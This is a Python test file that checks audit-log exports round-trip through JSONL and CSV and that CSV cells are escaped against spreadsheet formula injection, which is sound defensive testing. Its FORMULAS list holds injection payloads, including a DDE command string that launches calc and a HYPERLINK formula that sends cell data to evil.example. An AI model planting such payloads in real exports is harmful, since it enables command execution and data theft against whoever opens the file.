"""Lines of an audit export: written and read again the same, and no cell is a formula."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.wire.exports import AT, OWNER, sound, written
from valetkey.wire.audit_file import (
    COLUMNS,
    FORMULA_BEGINNINGS,
    EntryLine,
    Format,
    Illegible,
    Start,
    read_line,
    write_line,
)

FORMATS: list[Format] = ["jsonl", "csv"]
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\n"), min_size=1, max_size=60)
beginnings = st.sampled_from(["", *FORMULA_BEGINNINGS, "''", "'=", '"', ",", ' ="', "null", "None"])
tricky = st.builds("".join, st.tuples(beginnings, texts)).filter(lambda text: "\r" not in text)


def entry(**members: Any) -> EntryLine:
    plain: dict[str, Any] = {
        "chain": "ses_1",
        "seq": 1,
        "at": AT,
        "kind": "hold_placed",
        "session": None,
        "body": "{}",
        "hash": "0" * 64,
    }
    return EntryLine(**{**plain, **members})


@pytest.mark.parametrize("form", FORMATS)
@given(chain=tricky, kind=tricky, session=st.none() | tricky, body=tricky, seq=st.integers(0, 2**62))
def test_what_is_written_is_read_again(form: Format, **members: Any) -> None:
    line = entry(**members)
    assert read_line(write_line(line, form), form) == line


@pytest.mark.parametrize("form", FORMATS)
def test_every_line_of_an_export_is_read_again(form: Format) -> None:
    for line in sound():
        assert read_line(write_line(line, form), form) == line
    one = Start(version=1, owner=OWNER, tree="ses_1", at=0, key="0" * 64)
    assert read_line(write_line(one, form), form) == one


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("member", ["chain", "kind", "session", "body"])
def test_no_cell_is_a_formula(formula: str, member: str) -> None:
    text = write_line(entry(**{member: formula}), "csv").decode()
    (row,) = csv.reader(io.StringIO(text, newline=""))
    assert dict(zip(COLUMNS, row, strict=True))[member] == "'" + formula
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@given(chain=tricky, body=tricky)
def test_another_reader_of_csv_finds_the_same_cells(chain: str, body: str) -> None:
    text = write_line(entry(chain=chain, body=body), "csv").decode()
    (row,) = csv.reader(io.StringIO(text, newline=""))
    cells = dict(zip(COLUMNS, row, strict=True))
    assert (cells["chain"].removeprefix("'"), cells["body"].removeprefix("'")) == (chain, body)
    assert not cells["chain"].startswith(("=", "+", "-", "@", "\t"))


def test_the_whole_file_is_csv_with_names() -> None:
    text = b"".join(written(sound(), "csv")).decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["type"] for row in rows] == [
        *["export", "entry", "entry", "head"],
        *(["entry"] * 5 + ["head"] + ["entry"] * 4 + ["head", "end"]),
    ]
    assert text.count("\r\n") == text.count("\n") == len(rows) + 1


@pytest.mark.parametrize(
    "text",
    [
        "",
        "entry",
        ",".join(["entry"] * 16),
        ",".join(["nothing", *[""] * 15]),
        '"entry"x,' + "," * 14,
        ",".join(["entry", "ses_1", "01", "1", "k", "", "{}", "0" * 64, *[""] * 8]),
        ",".join(["entry", "ses_1", "1", "1", "k", "", "{}", "0" * 64, *[""] * 9]),
        ",".join(["entry", "ses_1", "1", "1", "k", "", "{}", "0" * 64, "0" * 128, *[""] * 7]),
        ",".join(["entry", '"ses_1"', "1", "1", "k", "", "{}", "0" * 64, *[""] * 8]),
        ",".join(["entry", "'ses_1", "1", "1", "k", "", "{}", "0" * 64, *[""] * 8]),
        ",".join(["entry", "=ses_1", "1", "1", "k", "", "{}", "0" * 64, *[""] * 8]),
    ],
)
def test_rows_that_no_export_has(text: str) -> None:
    with pytest.raises(Illegible):
        read_line(text.encode() + b"\r\n", "csv")
